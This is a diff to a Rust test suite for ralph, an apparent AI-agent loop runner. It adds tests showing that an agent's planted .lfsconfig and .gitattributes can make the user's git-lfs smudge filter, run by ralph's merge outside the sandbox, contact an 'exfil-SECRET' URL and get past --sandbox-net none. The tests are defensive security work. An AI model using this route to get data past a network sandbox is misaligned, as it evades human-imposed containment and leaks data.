@@ -43,6 +43,17 @@ enum Loop {
 /// once), writes `work.txt` and checks the box; a worktree loop is merged. `vars` are added to
 /// ralph's environment.
 fn attacked(env: &TestEnv, kind: Loop, plant: &str, vars: &[(&str, &str)]) -> Output {
+    attacked_with(env, kind, plant, vars, &[])
+}
+
+/// [`attacked`], with `extra` arguments to `ralph run`.
+fn attacked_with(
+    env: &TestEnv,
+    kind: Loop,
+    plant: &str,
+    vars: &[(&str, &str)],
+    extra: &[&str],
+) -> Output {
     env.write("A.md", &task(&["a1"]));
     env.commit_all("task");
     let script = env.dir().join("agent.sh");
@@ -61,6 +72,7 @@ fn attacked(env: &TestEnv, kind: Loop, plant: &str, vars: &[(&str, &str)]) -> Ou
     }
     args.extend(["A.md", "--agent-cmd", &agent, "--yes", "--grace", "1s"]);
     args.extend(["--sandbox", "--max-iterations", "2"]);
+    args.extend(extra);
     ralph_with_memory_limit(env, MEMORY_KIB, &args, vars, Duration::from_secs(90))
 }
 
@@ -240,4 +252,125 @@ fn the_commit_msg_hook_edits_the_message_in_the_sandbox_too() {
             stderr(&out)
         );
     }
+}
+
+/// A listener on a free local port that counts the connections made to it (each dropped at
+/// once): the address, and the count.
+fn listener() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = l.local_addr().unwrap().to_string();
+    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let count = seen.clone();
+    std::thread::spawn(move || {
+        for c in l.incoming() {
+            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            drop(c);
+        }
+    });
+    (addr, seen)
+}
+
+/// Whether git-lfs is installed (says why the test skips otherwise).
+fn git_lfs_works() -> bool {
+    let ok = std::process::Command::new("git-lfs")
+        .arg("version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !ok {
+        skip_or_fail("git-lfs is not installed");
+    }
+    ok
+}
+
+/// The user's global configuration as `git lfs install` writes it.
+fn lfs_global(env: &TestEnv) -> PathBuf {
+    let p = env.dir().join("gitconfig");
+    std::fs::write(
+        &p,
+        "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\
+         \tprocess = git-lfs filter-process\n\trequired = true\n",
+    )
+    .unwrap();
+    p
+}
+
+/// The agent commits an LFS pointer, `.gitattributes` naming the user's `lfs` filter for it
+/// and a `.lfsconfig` whose `lfs.url` carries what it wants out (a listener's address stands
+/// for its server).
+fn lfs_plant(addr: &str) -> String {
+    format!(
+        "printf '[lfs]\\n\\turl = http://{addr}/exfil-SECRET\\n' > .lfsconfig\n\
+         echo 'big.bin filter=lfs -text' > .gitattributes\n\
+         printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize 12\\n' \
+         4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393 > big.bin\n\
+         git add -A && git -c user.name=a -c user.email=a@e commit -qm lfs\n"
+    )
+}
+
+/// An agent without network (`--sandbox-net none`) never has ralph's git reach the network for
+/// it: the user's `git lfs install` configuration (the `lfs` filter in `~/.gitconfig`) is
+/// there, the agent's commit names that filter and a `.lfsconfig` pointing at its server, and
+/// the loop is merged.
+///
+/// The hole: the merge (`git merge`, outside, in the user's main tree) checks out the
+/// agent's `.gitattributes` and runs the user's smudge filter, git-lfs, which reads the
+/// agent's `.lfsconfig` and POSTs to its `lfs.url` (`…/exfil-SECRET/objects/batch`): a
+/// program ralph runs outside, at the agent's say, reaching the network the sandbox took
+/// away. The merge then fails, the main tree left half-merged (files changed, untracked).
+/// `git worktree add` of the next loop smudges the same way.
+#[test]
+#[ignore = "hole: the agent's .gitattributes + .lfsconfig make the user's git-lfs smudge, run by ralph's merge outside, contact the agent's lfs.url (--sandbox-net none bypassed)"]
+fn an_agent_without_network_never_has_ralphs_git_reach_it() {
+    if !bwrap_works() || !git_lfs_works() {
+        return;
+    }
+    let env = TestEnv::outside_tmp();
+    let (addr, seen) = listener();
+    let global = lfs_global(&env);
+    let vars = [("GIT_CONFIG_GLOBAL", global.to_str().unwrap())];
+    let plant = format!("{}\nexit 0", lfs_plant(&addr));
+    let out = attacked_with(
+        &env,
+        Loop::Worktree,
+        &plant,
+        &vars,
+        &["--sandbox-net", "none"],
+    );
+    let n = seen.load(std::sync::atomic::Ordering::SeqCst);
+    assert_eq!(
+        n,
+        0,
+        "connections from outside the sandbox: {}",
+        stderr(&out)
+    );
+    assert_exit(&out, 0);
+}
+
+/// Control: the user's own `git checkout` of such a commit runs git-lfs, which contacts the
+/// `lfs.url` of the commit's `.lfsconfig`.
+#[test]
+fn control_a_plain_checkout_of_an_lfs_pointer_contacts_its_lfs_url() {
+    if !git_lfs_works() {
+        return;
+    }
+    let env = TestEnv::outside_tmp();
+    let (addr, seen) = listener();
+    let global = lfs_global(&env);
+    env.write("A.md", "a\n");
+    env.commit_all("one");
+    let mut cmd = env.command("sh");
+    cmd.env("GIT_CONFIG_GLOBAL", &global)
+        .arg("-c")
+        .arg(format!(
+            "git checkout -q -b side && {{ {} }} && git checkout -q main && \
+             rm -f big.bin && git checkout side",
+            lfs_plant(&addr)
+        ))
+        .current_dir(&env.repo);
+    let out = run_with_limit(cmd, Duration::from_secs(60));
+    assert!(
+        seen.load(std::sync::atomic::Ordering::SeqCst) > 0,
+        "{}",
+        stderr(&out)
+    );
 }
